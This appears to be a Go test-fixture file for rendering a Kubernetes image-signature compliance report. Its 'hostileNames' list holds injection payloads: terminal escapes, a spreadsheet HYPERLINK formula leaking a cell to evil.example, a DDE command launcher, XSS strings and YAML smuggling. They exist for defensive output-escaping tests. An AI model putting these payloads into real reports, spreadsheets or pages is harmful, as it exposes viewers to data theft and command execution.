// SPDX-FileCopyrightText: Copyright Endor Labs, Inc. and the endor-gatekeeper-provider authors
// SPDX-License-Identifier: Apache-2.0

package render

import (
	"fmt"
	"strings"
	"time"

	"github.com/endorlabs/endor-gatekeeper-provider/provider/internal/question"
	"github.com/endorlabs/endor-gatekeeper-provider/provider/internal/report"
	"github.com/endorlabs/endor-gatekeeper-provider/provider/internal/verify"
)

var made = time.Date(2026, 11, 27, 6, 30, 0, 0, time.UTC)

// digestOf is a digest that differs for each n.
func digestOf(n int) string {
	return fmt.Sprintf("sha256:%08x%s", uint32(n)*2654435761, strings.Repeat(fmt.Sprintf("%02x", n%256), 28))
}

func daysAgo(n int) *time.Time {
	t := made.AddDate(0, 0, -n)
	return &t
}

const (
	production = "K8sEndorSignedImages/production"
	sandbox    = "K8sEndorSignedImages/sandbox-warn"
)

// judged is an image with a digest, judged by the constraint that fits what would
// become of it.
func judged(n int, name string, code verify.Code, next report.Decision, places ...report.Place) report.Image {
	i := report.Image{
		Image: name + "@" + digestOf(n), Digest: digestOf(n), Code: string(code), Class: code.Class(), NextRollout: next,
		Places: places, Sources: []report.Source{report.SourceEvaluation},
	}
	constraint, action := production, "deny"
	if next == report.Warned {
		constraint, action = sandbox, "warn"
	}
	for k := range i.Places {
		i.Places[k].Next = next
		i.Pods += i.Places[k].Pods
	}
	switch code.Class() {
	case verify.ClassVerified:
		_, repository, _ := strings.Cut(name, "/")
		i.Signer = question.Claims{
			CertificateOIDCIssuer: "https://token.actions.githubusercontent.com",
			CertificateIdentity:   "https://github.com/" + repository + "/.github/workflows/release.yaml@refs/heads/main",
			SourceRepository:      "https://github.com/" + repository,
			SourceRepositoryRef:   "refs/heads/main",
			RunnerEnvironment:     "github-hosted",
		}
		i.SignedAt = daysAgo(n%40 + 1)
	case verify.ClassRejected:
		i.Reason = code.Sentence()
		i.FirstSeen = daysAgo(n%12 + 2)
	case verify.ClassUnavailable:
		i.Reason = "Endor Labs did not answer in time; run the report again"
	case verify.ClassMisconfigured:
		i.Reason = "Endor Labs refuses the provider's credentials; see its log"
	}
	if i.Reason != "" && next != report.Admitted {
		i.Refusals = []report.Refusal{{
			Constraint: constraint, EnforcementAction: action, Code: string(code),
			Message: "[" + string(code) + "] container \"" + places[0].Container + "\": " + i.Image + ": " + i.Reason,
			Sources: []report.Source{report.SourceEvaluation, report.SourceStatus},
		}}
	}
	return i
}

func place(namespace, kind, name string, pods int, team string) report.Place {
	p := report.Place{Namespace: namespace, Kind: kind, Name: name, List: "containers", Container: name, Pods: pods}
	if team != "" {
		p.Owner = map[string]string{"team": team}
	}
	return p
}

// sample is a report such as a cluster of some size gives.
func sample() *report.Report {
	audited := made.Add(-40 * time.Second)
	tag := report.Image{
		Image: "docker.io/library/nginx:1.27", Code: string(verify.NoDigest), Class: verify.ClassRejected, Reason: verify.NoDigest.Sentence(),
		NextRollout: report.Denied, Pods: 6, FirstSeen: daysAgo(9), Sources: []report.Source{report.SourceEvaluation, report.SourceStatus},
		Places: []report.Place{place("web", "Deployment", "storefront", 4, "storefront"), place("web", "Deployment", "landing", 2, "storefront")},
		Refusals: []report.Refusal{{
			Constraint: production, EnforcementAction: "deny", Code: string(verify.NoDigest),
			Message: `[NO_DIGEST] container "storefront": docker.io/library/nginx:1.27 has no digest. Write name@sha256:DIGEST.`,
			Sources: []report.Source{report.SourceEvaluation, report.SourceStatus},
		}},
		Running: []report.RunningDigest{{Digest: digestOf(90), Pods: 4}, {Digest: digestOf(91), Pods: 2}},
	}
	for k := range tag.Places {
		tag.Places[k].Next = report.Denied
	}
	images := []report.Image{
		judged(1, "ghcr.io/acme/checkout", verify.Revoked, report.Denied,
			place("payments", "Deployment", "checkout", 8, "payments"), place("payments", "CronJob", "reconcile", 0, "payments")),
		judged(2, "ghcr.io/acme/ledger", verify.NotSigned, report.Denied, place("payments", "StatefulSet", "ledger", 3, "payments")),
		judged(3, "registry.example.com/tools/debug-shell", verify.NotSigned, report.Denied, place("platform", "DaemonSet", "node-debug", 12, "platform")),
		judged(4, "ghcr.io/acme-labs/recommender", verify.WrongSigner, report.Denied,
			place("search", "Deployment", "recommender", 5, "search"), place("web", "Deployment", "recommender-canary", 1, "search")),
		judged(5, "quay.io/vendor/exporter", verify.UntrustedCertificate, report.Denied, place("monitoring", "DaemonSet", "exporter", 12, "platform")),
		tag,
		judged(7, "ghcr.io/acme/experiments", verify.NotSigned, report.Warned, place("sandbox", "Deployment", "experiments", 1, "search")),
		judged(8, "ghcr.io/acme/notebook", verify.NotSigned, report.Warned, place("sandbox", "StatefulSet", "notebook", 2, "data")),
		judged(9, "mirror.example.net/acme/geoip", verify.Unavailable, report.Denied, place("search", "Deployment", "geoip", 2, "search")),
		{
			Image: "registry.k8s.io/pause:3.10", Class: report.Unchecked, NextRollout: report.Admitted, Pods: 12,
			Places:  []report.Place{{Namespace: "kube-system", Kind: "DaemonSet", Name: "node-local", List: "containers", Container: "pause", Pods: 12, Next: report.Admitted}},
			Sources: []report.Source{report.SourceEvaluation},
		},
		{
			Image: "registry.k8s.io/coredns/coredns:v1.12.1", Class: report.Unchecked, NextRollout: report.Admitted, Pods: 2,
			Places:  []report.Place{{Namespace: "kube-system", Kind: "Deployment", Name: "coredns", List: "containers", Container: "coredns", Pods: 2, Next: report.Admitted}},
			Sources: []report.Source{report.SourceEvaluation},
		},
	}
	for n, name := range []string{
		"payments/api", "payments/fraud-rules", "payments/statements", "web/storefront", "web/session", "web/image-resizer", "web/feature-flags",
		"search/indexer", "search/query", "search/spelling", "platform/ingress", "platform/cert-agent", "platform/log-shipper",
		"monitoring/alert-router", "monitoring/dashboards", "data/warehouse-loader", "data/stream-joiner", "data/catalog",
	} {
		namespace, workload, _ := strings.Cut(name, "/")
		images = append(images, judged(20+n, "ghcr.io/acme/"+workload, verify.Verified, report.Admitted,
			place(namespace, "Deployment", workload, n%4+1, namespace)))
	}
	r := &report.Report{
		Schema: report.Schema, GeneratedAt: made, Generator: "kubectl-endor v0.9.0", Cluster: "production-eu", Complete: true,
		Notices: []report.Notice{
			{Level: report.LevelWarning, Text: "K8sEndorSignedImages/sandbox-warn was last audited 26 hours ago; see whether Gatekeeper's audit runs."},
			{Level: report.LevelInfo, Text: "Gatekeeper's status of K8sEndorSignedImages/production lists 20 of 27 violations; this report found the others itself."},
		},
		Constraints: []report.Constraint{
			{
				Kind: "K8sEndorSignedImages", Name: "production", EnforcementAction: "deny", FailOn: []string{"rejected", "unavailable", "misconfigured"},
				AuditedAt: &audited, AuditViolations: 27, AuditListed: 20, Violations: 27, Matched: 64,
			},
			{
				Kind: "K8sEndorSignedImages", Name: "sandbox-warn", EnforcementAction: "warn", FailOn: []string{"rejected"},
				AuditedAt: daysAgo(1), AuditViolations: 2, AuditListed: 2, Violations: 2, Matched: 5,
			},
			{Kind: "K8sAllowedRepos", Name: "known-registries", EnforcementAction: "dryrun", AuditViolations: 0, Violations: -1, Matched: -1},
		},
		Images: images,
		Judged: []report.KindCount{{Kind: "Pod", Count: 71}, {Kind: "Deployment.apps", Count: 24}, {Kind: "CronJob.batch", Count: 1}},
		NotJudged: []report.KindCount{
			{Kind: "ConfigMap", Count: 140},
		},
		Readiness: &report.Readiness{
			Namespaces: []report.NamespaceReady{
				{Name: "payments", Workloads: 6, Failing: []string{"CronJob/reconcile", "Deployment/checkout", "StatefulSet/ledger"}},
				{Name: "search", Workloads: 5, Failing: []string{"Deployment/recommender"}, Unknown: []string{"Deployment/geoip"}},
				{Name: "web", Workloads: 7, Failing: []string{"Deployment/landing", "Deployment/recommender-canary", "Deployment/storefront"}},
				{Name: "platform", Workloads: 4, Failing: []string{"DaemonSet/node-debug"}},
				{Name: "data", Ready: true, Workloads: 3},
			},
			Blockers: []report.Blocker{
				{Image: tag.Image, Code: tag.Code, Workloads: 2},
				{Image: images[0].Image, Code: images[0].Code, Workloads: 2},
				{Image: images[3].Image, Code: images[3].Code, Workloads: 2},
				{Image: images[1].Image, Code: images[1].Code, Workloads: 1},
			},
		},
		Changes: &report.Changes{
			Since:        *daysAgo(1),
			NewlyRevoked: []report.ImageChange{{Image: images[0].Image, Before: "VERIFIED", Now: "REVOKED"}},
			NewlySigned:  []report.ImageChange{{Image: "ghcr.io/acme/session@" + digestOf(24), Before: "NOT_SIGNED", Now: "VERIFIED"}},
			New:          []report.ImageChange{{Image: images[1].Image, Now: "NOT_SIGNED"}},
			Gone:         []report.ImageChange{{Image: "ghcr.io/acme/session@" + digestOf(77), Before: "NOT_SIGNED"}},
		},
	}
	for day := 9; day > 0; day-- {
		t := report.Totals{Images: 29 - day/2, Rejected: 5 + day + day%3, Unavailable: day % 2, Unchecked: 2}
		t.Verified = t.Images - t.Rejected - t.Unavailable - t.Unchecked
		r.History = append(r.History, report.Point{At: *daysAgo(day), Totals: t})
	}
	sumUp(r)
	return r
}

// sumUp fills in what is counted of the images by namespace.
func sumUp(r *report.Report) {
	counts := map[string]*report.Namespace{}
	var names []string
	for _, i := range r.Images {
		for _, name := range namespaces(i) {
			if counts[name] == nil {
				counts[name] = &report.Namespace{Name: name}
				names = append(names, name)
			}
			switch n := counts[name]; i.Class {
			case verify.ClassVerified:
				n.Verified++
			case verify.ClassRejected:
				n.Rejected++
			case verify.ClassUnavailable:
				n.Unavailable++
			case verify.ClassMisconfigured:
				n.Misconfigured++
			case report.Unchecked:
				n.Unchecked++
			}
		}
	}
	r.Namespaces = nil
	for _, name := range unique(names) {
		r.Namespaces = append(r.Namespaces, *counts[name])
	}
}

// hostileNames are what somebody could call an image, a container or a label
// who wants a report to lie or to run something.
var hostileNames = []string{
	"evil/\x1b[2J\x1b[1;32mVERIFIED\x1b[0m",
	"evil/line\nghcr.io/acme/api  VERIFIED  admitted",
	"=HYPERLINK(\"https://evil.example/?\"&A1,\"ok\")",
	"+1+cmd|' /C calc'!A0",
	"-2+3", "@SUM(A1)", "\tTAB", "\rCR",
	"evil/<script>document.title='pwned'</script>",
	"evil/</script><script>document.title='pwned'</script>",
	"evil/\"><img src=x onerror=alert(1)>",
	"evil/' onmouseover='alert(1)",
	"evil/\u202egnp.exe", "evil/\u2028next", "evil/|pipe|`code`|[link](https://evil.example)|*bold*|_i_|~~s~~|&amp;",
	"evil/]]>--><!--", "evil/{{.}}${x}", "evil/\xff\xfe", "evil/\x00nul", "evil/: - # yaml\n---\nkind: Secret",
	"evil/" + strings.Repeat("very-long-", 60),
}

// hostile is the sample with all that somebody could write into it, and not
// complete.
func hostile() *report.Report {
	r := sample()
	r.Complete = false
	r.Cluster = "eu\x1b]0;title\a<b>|=1"
	r.Notices = append(r.Notices, report.Notice{
		Level: report.LevelError,
		Text:  "pods cannot be listed in namespace \"a\nb|<i>\": grant the verb list on pods.",
	})
	for _, name := range hostileNames {
		p := place(name, "Deployment", name, 1, name)
		p.Container = name
		i := judged(3, "x", verify.BadReference, report.Denied, p)
		i.Image, i.Digest, i.Reason = name, "", name
		i.Refusals[0].Message = "[BAD_REFERENCE] " + name
		r.Images = append(r.Images, i)
	}
	r.Readiness.Blockers = append(r.Readiness.Blockers, report.Blocker{Image: hostileNames[0], Code: "BAD_REFERENCE", Workloads: 1})
	r.Changes.New = append(r.Changes.New, report.ImageChange{Image: hostileNames[1], Now: "BAD_REFERENCE"})
	sumUp(r)
	return r
}
